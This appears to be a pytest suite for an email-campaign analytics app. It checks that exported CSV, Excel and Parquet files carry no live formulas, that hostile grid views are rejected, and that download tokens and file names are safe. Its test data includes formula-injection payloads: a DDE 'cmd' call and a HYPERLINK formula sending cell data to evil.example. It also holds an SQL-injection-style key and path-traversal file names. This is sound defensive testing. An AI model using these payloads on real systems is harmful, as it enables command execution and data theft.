"""Exported lists: what the files contain, that none has a formula, and how the browser downloads them."""

import csv
import io
import re
import threading
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import hypothesis
import pyarrow as pa
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.testclient import TestClient
from typer.testing import CliRunner
from xlsxwriter.worksheet import Worksheet

from mailsight.__main__ import app
from mailsight.audience.machines import REASONS
from mailsight.commands.files import List
from mailsight.components import grid as grid_component
from mailsight.components.grid import Filters
from mailsight.errors import BadRequest, TooManyFiles
from mailsight.exports import lists, writers
from mailsight.exports import rows as export_rows
from mailsight.exports.jobs import Job, Jobs, State
from mailsight.exports.lists import LISTS, ExportColumn, Format
from mailsight.exports.writers import Rows
from mailsight.reports import campaign, grid, recipients
from mailsight.reports import customer as customer_reports
from mailsight.reports.search import CampaignSearch, Order
from mailsight.settings import PROJECT
from mailsight.vocabulary import Audience, EventType, NotSentReason, Status
from mailsight.warehouse.reader import Warehouse
from mailsight.web import answers, downloads, sessions
from mailsight.web import recipients as recipients_web
from mailsight.web.access import Right
from mailsight.web.downloads import Exported
from tests.support.campaigns import most_clicked
from tests.support.examples import examples
from tests.support.visitors import LOCAL_CLIENT, local
from tests.support.waiting import PATIENCE_SECONDS, until

HOSTILE = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "  =1+1",
    "+1 550",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "DDE",
    'a "quoted", cell\nof two lines; =1',
    "<b>bold</b>",
    "_x000D_",
    "",
    None,
]
COLUMNS = (
    ExportColumn("name", "Name"),
    ExportColumn("words", "Words", "texts"),
    ExportColumn("clicks", "Clicks", "count"),
    ExportColumn("cor", "COR", "rate"),
    ExportColumn("sent_at", "Sent (UTC)", "moment"),
)
SENT = datetime(2026, 4, 14, 9, 0, 2, 250_000, tzinfo=UTC)


def hostile_rows() -> Rows:
    rows = [
        {"name": name, "words": [name, "x"] if name else [], "clicks": -1, "cor": 0.25, "sent_at": SENT}
        for name in HOSTILE
    ]
    return Rows("customers", COLUMNS, len(rows), iter(lists.batches_of(rows, COLUMNS)))


def written(rows: Rows, form: Format) -> bytes:
    with io.BytesIO() as file:
        if form is not Format.XLSX:
            writers.write(rows, form, file, lambda _: None)
            return file.getvalue()
    raise AssertionError("Excel needs a real file")


def sheets(path: Path) -> dict[str, str]:
    """The parts of an Excel file that contain cells, by name."""
    with zipfile.ZipFile(path) as file:
        return {
            name: file.read(name).decode()
            for name in file.namelist()
            if "worksheets" in name or "shared" in name
        }


def test_no_text_in_csv_is_a_formula() -> None:
    text = written(hostile_rows(), Format.CSV).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    # The same text, but for the quotes.
    assert [row["name"].replace("'", "") for row in rows] == [
        (name or "").replace("'", "") for name in HOSTILE
    ]
    assert not any(runs(row["name"]) for row in rows)
    # Numbers stay numbers, whatever their sign.
    assert {(row["clicks"], row["cor"], row["sent_at"]) for row in rows} == {
        ("-1", "0.25", "2026-04-14T09:00:02Z")
    }


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run the cell, or skip what hides a formula in it."""
    start = re.sub(r'^[\s"\u200b\ufeff\x00]+', "", cell)
    return cell.startswith(("\t", "\r", "\n")) or unicodedata.normalize("NFKC", start[:1]) in set("=+-@−")


texts = st.text(
    st.sampled_from(
        [*"=+-@＝＋－＠﹢−,;:|\t\r\n \"'ab1", "\N{NO-BREAK SPACE}", "\N{IDEOGRAPHIC SPACE}", "\u200b", "\0"]
    )
)


@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=4))
@hypothesis.settings(max_examples=examples(300))
def test_no_cell_is_a_formula_whatever_separates_cells(names: list[tuple[str, str]]) -> None:
    columns = (ExportColumn("a", "A"), ExportColumn("b", "B"))
    batches = lists.batches_of(({"a": a, "b": b} for a, b in names), columns)
    text = writers.as_csv(Rows("x", columns, len(names), iter(batches))).decode("utf-8-sig")
    for separator in ",;:\t|":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            cells = [
                cell
                for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting)
                for cell in row
            ]
            assert not [cell for cell in cells if runs(cell)], separator
    [_, *rows] = csv.reader(io.StringIO(text, newline=""))
    assert [[cell.replace("'", "") for cell in row] for row in rows] == [
        [cell.replace("'", "") for cell in row] for row in names
    ]


def test_rows_as_csv_contain_no_formulas() -> None:
    columns = lists.LISTS["not-sent"]
    rows = [
        ("ann", "Ann", "ann@mail.example", "no_consent", None),
        ("bob", "=HYPERLINK(1)", None, "bounced_before", "+1 550 No such user"),
        ("cas", None, "cas@mail.example", "bounced_before", "mailbox full"),
    ]
    batches = lists.batches_of(
        (dict(zip((column.key for column in columns), row, strict=True)) for row in rows), columns
    )
    text = writers.as_csv(Rows("not-sent", columns, len(rows), iter(batches))).decode()
    assert text.splitlines() == [
        '\N{ZERO WIDTH NO-BREAK SPACE}"customer_id","name","email","reason","detail"',
        '"ann","Ann","ann@mail.example","no_consent",',
        """"bob","'=HYPERLINK(1)",,"bounced_before","'+1 550 No such user\"""",
        '"cas",,"cas@mail.example","bounced_before","mailbox full"',
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t1",
        "\r1",
        "\n1",
        "＝1+1",
        "＋1",
        "－1",
        "＠a",
    ],
)
def test_a_cell_that_looks_like_a_formula_is_quoted(text: str) -> None:
    assert lists.spreadsheet_safe(pa.array([text, "Ann"])).to_pylist() == [f"'{text}", "Ann"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a;=cmd|'/C calc'!A0", "a;'=cmd|'/C calc'!A0"),
        ("a,+1;-2|@b\t=c\n=d", "a,'+1;'-2|'@b\t'=c\n'=d"),
        ('a; "=b', "a; \"'=b"),
        ("  =cmd", "  '=cmd"),
        ("a;;=b", "a;;'=b"),
        ("a:= 1+1", "a:'= 1+1"),
        ("a =1+1 @SUM(1) +cmd|x -2+3", "a '=1+1 '@SUM(1) '+cmd|x '-2+3"),
        ('a "=b', "a \"'=b"),
        ("\t\t\t=1", "'\t'\t'\t'=1"),
        ("a;\N{IDEOGRAPHIC SPACE}＝b", "a;\N{IDEOGRAPHIC SPACE}'＝b"),
    ],
)
def test_a_formula_after_any_separator_is_quoted(text: str, safe: str) -> None:
    assert lists.spreadsheet_safe(pa.array([text])).to_pylist() == [safe]


@pytest.mark.parametrize(
    "text",
    [
        "Ann",
        "a=b",
        "Spring - Sale",
        "1 + 1 = 2",
        "12:30",
        "https://a.example/@b",
        "",
        " ",
        "a; b",
        "a-b, c",
        "a\nb",
        "'=1",
        ";'=1",
        None,
    ],
)
def test_other_cells_are_unchanged(text: str | None) -> None:
    assert lists.spreadsheet_safe(pa.array([text], pa.string())).to_pylist() == [text]


def test_parquet_keeps_every_value_unchanged() -> None:
    table = pa.parquet.read_table(pa.BufferReader(written(hostile_rows(), Format.PARQUET)))
    assert table["name"].to_pylist() == HOSTILE
    assert table["words"].to_pylist()[0] == [HOSTILE[0], "x"]
    assert set(table["sent_at"].to_pylist()) == {SENT}
    assert [str(kind) for kind in table.schema.types[1:]] == [
        "list<element: string>",
        "int64",
        "double",
        "timestamp[us, tz=UTC]",
    ]


def test_excel_has_texts_numbers_and_times_but_no_formulas(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    with path.open("wb") as file:
        assert writers.write(hostile_rows(), Format.XLSX, file, lambda _: None) == ""
    [cells] = sheets(path).values()
    assert "<f>" not in cells
    assert "<hyperlink" not in cells
    assert "=cmd|'/C calc'!A0" in cells
    assert "<v>-1</v>" in cells
    assert "<v>46126.37502" in cells  # 14 April 2026, 9:00:02, in Excel's days
    assert 'state="frozen"' in cells
    with zipfile.ZipFile(path) as parts:
        assert not any("external" in name.lower() or "vba" in name.lower() for name in parts.namelist())


def test_only_excel_says_it_in_words(tmp_path: Path) -> None:
    row = {
        "customer_id": "1",
        "occurred_at": datetime(2026, 4, 14, 9, tzinfo=UTC),
        "type": "complained",
        "machine": "scanner_agent",
        "user_agent": "Outlook-iOS/2.0",
    }
    columns = tuple(column for column in LISTS["events"] if column.key in row)
    table = [row, row | {"type": "sneezed", "machine": "a rule of old", "user_agent": None}]
    [batch] = lists.batches_of(table, columns)
    words = {
        "type": ["Marked as spam", "sneezed"],
        "machine": [REASONS["scanner_agent"].label, "a rule of old"],
        "user_agent": ["Outlook app · phone", None],
    }
    assert {name: lists.in_words(batch, columns).column(name).to_pylist() for name in words} == words

    path = tmp_path / "events.xlsx"
    with path.open("wb") as file:
        writers.write(Rows("events", columns, 2, iter([batch])), Format.XLSX, file, lambda _: None)
    cells = "".join(sheets(path).values())
    assert "Marked as spam" in cells
    assert "complained" not in cells
    lines = written(Rows("events", columns, 2, iter([batch])), Format.CSV).decode("utf-8-sig").splitlines()
    assert lines[1].endswith('"complained","scanner_agent","Outlook-iOS/2.0"')


@pytest.mark.parametrize("name", LISTS)
def test_every_word_of_the_vocabulary_in_a_list_has_a_label(name: str) -> None:
    """A new state, reason or type of event can't be exported to people by its key."""
    vocabulary = {"status": Status, "not_sent_reason": NotSentReason, "type": EventType, "audience": Audience}
    for column in LISTS[name]:
        for word in vocabulary.get(column.key, ()):
            assert column.words
            assert column.words(word.value) == word.label


def test_excel_says_how_many_rows_are_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert Worksheet().xls_rowmax - 1 == writers.MAX_SHEET_ROWS
    monkeypatch.setattr(writers, "MAX_SHEET_ROWS", 10)
    path = tmp_path / "x.xlsx"
    with path.open("wb") as file:
        note = writers.write(hostile_rows(), Format.XLSX, file, lambda _: None)
    assert note == "An Excel sheet holds 10 rows; 6 are left out. CSV and Parquet have no limit."
    parts = sheets(path)
    assert parts["xl/worksheets/sheet1.xml"].count("<row ") == 11
    assert "6 more are left out" in "".join(parts.values())


def test_times_are_formatted_as_python_formats_them() -> None:
    moments = [SENT, None, datetime(1969, 12, 31, 23, 59, 59, tzinfo=UTC), datetime(2024, 2, 29, tzinfo=UTC)]
    texts = lists.iso_8601(pa.array(moments, pa.timestamp("us", tz="UTC"))).to_pylist()
    assert texts == [at and at.strftime("%Y-%m-%dT%H:%M:%SZ") for at in moments]


@pytest.fixture(scope="module")
def warehouse(sample_database: Path) -> Warehouse:
    return Warehouse(sample_database)


@pytest.fixture(scope="module")
def report(warehouse: Warehouse) -> campaign.CampaignReport:
    """A campaign that was sent and clicked."""
    return campaign.report(warehouse.snapshot(), most_clicked(warehouse), Audience.HUMAN)


def rows_of(rows: Rows) -> list[dict[str, Any]]:
    schema = lists.schema(rows.columns)
    listed = [row for batch in rows.batches for row in lists.conform(batch, schema).to_pylist()]
    assert len(listed) == rows.total
    return listed


def test_exported_customers_equal_those_on_the_page(
    warehouse: Warehouse, report: campaign.CampaignReport
) -> None:
    campaign_id = report.campaign.campaign_id
    query = grid.grid_query(
        {"opens": {"type": "greaterThan", "filter": 0}}, [{"colId": "email", "sort": "desc"}], end=500
    )
    shown = recipients.page(warehouse.snapshot(), campaign_id, Audience.HUMAN, query)
    exported = rows_of(export_rows.customers(warehouse.snapshot(), campaign_id, Audience.HUMAN, query))
    assert [row["customer_id"] for row in exported] == [row["customer_id"] for row in shown.rows]
    assert exported[0] == {key: shown.rows[0][key] for key in exported[0]}

    everybody = rows_of(
        export_rows.customers(warehouse.snapshot(), campaign_id, Audience.HUMAN, grid.grid_query())
    )
    assert len(everybody) == report.counts.selected
    assert sum(row["status"] == "not_sent" for row in everybody) == report.counts.not_sent
    for status, messages in report.status.items():
        assert sum(row["status"] == status for row in everybody) == messages


VIEW: dict[str, Any] = {
    "filter": {"first_opened_at": {"type": "notBlank"}, "name": {"type": "contains", "filter": "a"}},
    "sort": [{"colId": "first_opened_at", "sort": "desc"}],
    "zone": "Pacific/Auckland",
}


def test_a_grid_export_uses_the_grids_view_and_the_pages_search(
    use: Callable[[Path], Warehouse], sample_database: Path, report: campaign.CampaignReport
) -> None:
    query = grid.grid_query(
        VIEW["filter"], VIEW["sort"], search="e", status=["clicked"], zone=VIEW["zone"], end=500
    )
    data = use(sample_database).snapshot()
    expected = recipients.page(data, report.campaign.campaign_id, report.audience, query)
    read = grid_component.shown(report, Filters("e", [Status.CLICKED]), export_rows.customers)
    # A browser may send more than a view; values that the page knows itself are ignored.
    posted = {**VIEW, "search": "", "status": [], "link": 1, "token": "x", "audience": "all"}
    exported = rows_of(read(data, posted))
    assert 0 < len(exported) == expected.total
    assert [row["customer_id"] for row in exported] == [row["customer_id"] for row in expected.rows]
    read_events = grid_component.shown(report, Filters("e", [Status.CLICKED]), export_rows.events)
    events = rows_of(read_events(data, posted))
    shown = {row["customer_id"] for row in exported}
    all_events = rows_of(export_rows.events(data, report.campaign.campaign_id))
    assert {row["customer_id"] for row in events} == shown
    assert events == [row for row in all_events if row["customer_id"] in shown]
    assert len(events) < len(all_events)


@pytest.mark.parametrize("rows", [export_rows.customers, export_rows.events])
@pytest.mark.parametrize(
    "view",
    [
        {"filter": {"name": {"type": "matches", "filter": "a"}}},
        {"filter": {"name; DROP TABLE recipients": {"type": "contains", "filter": "a"}}},
        {"filter": {"name": {"type": "contains", "filter": "\ud800"}}},
        {"filter": ["name"]},
        {"sort": [{"colId": "customer_hash", "sort": "asc"}]},
        {"sort": "name"},
    ],
)
def test_a_hostile_grid_view_is_rejected(
    warehouse: Warehouse,
    report: campaign.CampaignReport,
    jobs: Jobs,
    view: dict[str, Any],
    rows: grid_component.ReadCustomers,
) -> None:
    read = grid_component.shown(report, Filters(), rows)
    with pytest.raises(BadRequest):
        read(warehouse.snapshot(), view)
    job = wait(
        jobs.start("customers.csv", Format.CSV, lambda *_: str(read(warehouse.snapshot(), view))),
        State.FAILED,
    )
    assert "server's log" not in job.note


def test_a_campaigns_other_lists_equal_those_on_the_page(
    warehouse: Warehouse, report: campaign.CampaignReport
) -> None:
    campaign_id = report.campaign.campaign_id
    links = rows_of(export_rows.links(warehouse.snapshot(), campaign_id, Audience.HUMAN))
    assert [row["clicks"] for row in links] == [link.clicks for link in (*report.links, *report.other_links)]
    events = rows_of(export_rows.events(warehouse.snapshot(), campaign_id))
    for kind, counted in (("opened", report.all_opens), ("clicked", report.all_clicks)):
        assert sum(row["type"] == kind for row in events) == counted
    for reason, customers in report.not_sent.items():
        assert export_rows.not_sent(warehouse.snapshot(), campaign_id, reason=reason).total == customers
    rows = rows_of(export_rows.not_sent(warehouse.snapshot(), campaign_id))
    assert len(rows) == report.counts.not_sent
    name = next(row["name"] for row in rows if row["name"])
    matching = rows_of(export_rows.not_sent(warehouse.snapshot(), campaign_id, search=f" {name.upper()} "))
    assert name in [row["name"] for row in matching]


def test_events_read_in_parts_equal_those_read_at_once(
    warehouse: Warehouse, report: campaign.CampaignReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    campaign_id = report.campaign.campaign_id
    whole = rows_of(export_rows.events(warehouse.snapshot(), campaign_id))
    assert len({row["customer_id"] for row in whole}) > 10
    opened = grid.grid_query(status=[Status.OPENED])
    some = rows_of(export_rows.events(warehouse.snapshot(), campaign_id, report.audience, opened))
    assert 0 < len(some) < len(whole)
    monkeypatch.setattr(export_rows, "EVENTS_PER_PART", 20)
    assert rows_of(export_rows.events(warehouse.snapshot(), campaign_id)) == whole
    assert rows_of(export_rows.events(warehouse.snapshot(), campaign_id, report.audience, opened)) == some


def test_a_customers_lists_equal_those_on_the_page(
    warehouse: Warehouse, report: campaign.CampaignReport
) -> None:
    campaign_id = report.campaign.campaign_id
    [row] = rows_of(
        export_rows.customers(
            warehouse.snapshot(),
            campaign_id,
            Audience.HUMAN,
            grid.grid_query({"clicks": {"type": "greaterThan", "filter": 0}}),
        )
    )[:1]
    customer_id = row["customer_id"]
    history = customer_reports.report(warehouse.snapshot(), customer_id, Audience.HUMAN)
    exported = rows_of(export_rows.history(warehouse.snapshot(), customer_id, Audience.HUMAN))
    assert [row["campaign_id"] for row in exported] == [contact.campaign_id for contact in history.contacts]
    assert [row["clicks"] for row in exported] == [contact.clicks for contact in history.contacts]
    of_campaign = rows_of(export_rows.customer_events(warehouse.snapshot(), customer_id, campaign_id))
    shown = customer_reports.message_events(warehouse.snapshot(), campaign_id, customer_id)
    assert [row["type"] for row in of_campaign] == shown["type"].tolist()
    everything = rows_of(export_rows.customer_events(warehouse.snapshot(), customer_id))
    assert [row for row in everything if row["campaign_id"] == campaign_id] == of_campaign


@pytest.mark.parametrize(("key", "down"), [("name", False), ("cor", True), ("cor", False), ("sent", True)])
def test_campaigns_are_exported_in_the_lists_order(warehouse: Warehouse, key: str, down: bool) -> None:
    rows = rows_of(export_rows.campaigns(warehouse.snapshot(), Audience.HUMAN, order=Order(key, down)))
    values = [row[key].lower() if key == "name" else row[key] for row in rows]
    known = [value for value in values if value is not None]
    assert values == sorted(known, reverse=down) + [None] * (len(values) - len(known))


def test_an_empty_list_is_a_file_with_headings(warehouse: Warehouse) -> None:
    nothing = export_rows.campaigns(
        warehouse.snapshot(), Audience.HUMAN, CampaignSearch("no campaign is called this")
    )
    assert written(nothing, Format.CSV).decode("utf-8-sig").startswith('"campaign_id","name"')


@pytest.mark.parametrize("which", List)
@pytest.mark.parametrize("form", lists.LIST_FORMATS)
def test_the_command_writes_every_list(
    sample_database: Path, report: campaign.CampaignReport, tmp_path: Path, which: List, form: Format
) -> None:
    assert set(LISTS) == set(List)
    warehouse, campaign_id = Warehouse(sample_database), report.campaign.campaign_id
    customer = next(
        iter(
            export_rows.customers(warehouse.snapshot(), campaign_id, Audience.ALL, grid.grid_query()).batches
        )
    )
    ids = {
        List.CAMPAIGNS: [],
        List.HISTORY: [customer["customer_id"][0].as_py()],
        List.CUSTOMER_EVENTS: [customer["customer_id"][0].as_py()],
    }
    output = tmp_path / f"list.{form}"
    arguments = ["export", which.value, *ids.get(which, [campaign_id]), "-o", str(output)]
    result = CliRunner().invoke(app, ["--database", str(sample_database), *arguments])
    assert result.exit_code == 0, result.output
    assert "to " in result.stderr
    assert output.stat().st_size > 100
    assert list(tmp_path.iterdir()) == [output]


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["export", "campaigns", "-o", "list.txt"], "must end in .csv, .xlsx or .parquet"),
        (["export", "customers", "-o", "list.csv"], "needs a campaign"),
        (["export", "customers", "nope", "-o", "list.csv"], "There is no campaign 'nope'"),
        (["export", "customer-events", "nope", "-o", "list.csv"], "There is no customer 'nope'"),
        (["export", "campaigns", "x", "-o", "list.csv"], "takes no id"),
        (["export", "campaigns", "-o", "/nowhere/list.csv"], "can't be written"),
    ],
)
def test_the_command_says_what_is_wrong(
    sample_database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], says: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["--database", str(sample_database), *arguments])
    assert result.exit_code == 1
    assert says in str(result.exception)
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def jobs() -> Iterator[Jobs]:
    jobs = Jobs(max_files=3, max_bytes=1_000_000)
    yield jobs
    jobs.close()


def wait(job: Job, *states: State) -> Job:
    until(lambda: job.state in states, " or ".join(states))
    return job


def hello(output: Any, on_progress: Any) -> str:
    output.write(b"hello")
    on_progress(1, 1)
    return "a note"


def test_a_file_is_written_and_read_and_removed(jobs: Jobs) -> None:
    job = wait(jobs.start("hello.csv", Format.CSV, hello), State.READY)
    assert (job.note, job.size_bytes, b"".join(job.parts())) == ("a note", 5, b"hello")
    parts = job.parts()
    assert next(parts) == b"hello"
    jobs.remove(job)
    assert jobs.find(job.id) is None
    assert list(parts) == []


def test_writing_stops_when_the_job_is_removed(jobs: Jobs) -> None:
    started, stopped = threading.Event(), threading.Event()

    def endless(_: Any, on_progress: Any) -> str:
        try:
            while True:
                on_progress(1, 2)
                started.set()
        finally:
            stopped.set()

    job = jobs.start("endless.csv", Format.CSV, endless)
    assert started.wait(PATIENCE_SECONDS)
    jobs.remove(job)
    assert stopped.wait(PATIENCE_SECONDS)
    assert wait(job, State.FAILED).note == ""


def test_an_unexpected_error_is_reported_without_its_details(jobs: Jobs) -> None:
    def broken(_: Any, __: Any) -> str:
        raise ValueError("secret")

    job = wait(jobs.start("broken.csv", Format.CSV, broken), State.FAILED)
    assert job.note == "The file could not be written. The server's log says why."


def test_files_are_bounded_in_number_and_size(jobs: Jobs) -> None:
    first, *_ = [wait(jobs.start(f"{n}.csv", Format.CSV, hello), State.READY) for n in range(3)]
    wait(jobs.start("another.csv", Format.CSV, hello), State.READY)
    assert jobs.find(first.id) is None

    def large(output: Any, on_progress: Any) -> str:
        for n in range(20):
            output.write(b"x" * 100_000)
            output.flush()
            on_progress(n, 20)
        return ""

    job = wait(jobs.start("large.csv", Format.CSV, large), State.FAILED)
    assert "together are too large" in job.note

    hold = threading.Event()
    for n in range(3):
        jobs.start(f"held-{n}.csv", Format.CSV, lambda _, on_progress: str(hold.wait(PATIENCE_SECONDS)))
    with pytest.raises(TooManyFiles):
        jobs.start("one-too-many.csv", Format.CSV, hello)
    hold.set()


def test_files_are_deleted_after_their_retention_time() -> None:
    jobs = Jobs(retention_seconds=0.2)
    job = jobs.start("hello.csv", Format.CSV, hello)
    until(lambda: jobs.find(job.id) is None, "the file to be deleted")
    jobs.close()


@pytest.fixture
def client(jobs: Jobs, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    monkeypatch.setattr(downloads, "jobs", lambda: jobs)
    monkeypatch.setattr(sessions, "live", always)
    with local(monkeypatch):
        yield TestClient(Starlette(routes=downloads.routes(answers.path)), client=LOCAL_CLIENT)


def token(job: Job) -> str:
    """A token for a file that whoever is on this machine ordered."""
    return downloads.token(Exported(job, sessions.pass_for(Right.FIGURES)))


async def always(session_id: str) -> bool:
    """Stands in for `sessions.live`, because there is no Streamlit session here: tokens are for session ""."""
    return session_id == ""


def test_a_token_downloads_exactly_one_file(client: TestClient, jobs: Jobs) -> None:
    job = wait(jobs.start("hello.csv", Format.CSV, hello), State.READY)
    query = {"token": token(job)}
    progress = client.get("/api/export/progress", params=query)
    assert progress.json() == {
        "state": "ready",
        "done": 1,
        "total": 1,
        "counted": "1 of 1",
        "note": "a note",
        "size": "5 bytes",
    }
    file = client.get("/api/export", params=query)
    assert (file.status_code, file.content) == (200, b"hello")
    assert file.headers["content-disposition"] == 'attachment; filename="hello.csv"'
    assert file.headers["cache-control"] == "no-store"
    assert file.headers["content-length"] == "5"

    jobs.remove(job)
    assert client.get("/api/export", params=query).status_code == 404


@pytest.mark.parametrize("token", ["", "x", "WyJhIl0.abc", None])
@pytest.mark.parametrize("route", ["/api/export", "/api/export/progress"])
def test_any_other_token_is_rejected(client: TestClient, route: str, token: str | None) -> None:
    answer = client.get(route, params={} if token is None else {"token": token})
    assert answer.status_code == 404
    assert answer.json()["error"]["title"] == "This file is no longer available"


def test_a_grids_token_downloads_no_file(client: TestClient) -> None:
    token = recipients_web.token("a-campaign", Audience.ALL)
    assert client.get("/api/export", params={"token": token}).status_code == 404


def test_an_unfinished_file_cannot_be_downloaded(client: TestClient, jobs: Jobs) -> None:
    hold = threading.Event()
    job = jobs.start("held.csv", Format.CSV, lambda _, on_progress: str(hold.wait(PATIENCE_SECONDS)))
    query = {"token": token(job)}
    assert client.get("/api/export", params=query).status_code == 404
    assert client.get("/api/export/progress", params=query).json()["state"] in ("waiting", "writing")
    hold.set()


def test_file_names_contain_only_safe_characters() -> None:
    assert lists.file_name("customers", '../a"b\r\nc/d', "human") == "customers-a-b--c-d-human"


@pytest.mark.parametrize("name", [*LISTS, *(form.label for form in Format)])
def test_the_docs_name_every_list_and_format(name: str) -> None:
    page = (PROJECT / "docs" / "exports.md").read_text(encoding="utf-8")
    assert re.search(rf"^\|.*(`{name}`|\b{name}\b)|^- \*\*{name}\*\*", page, re.MULTILINE)
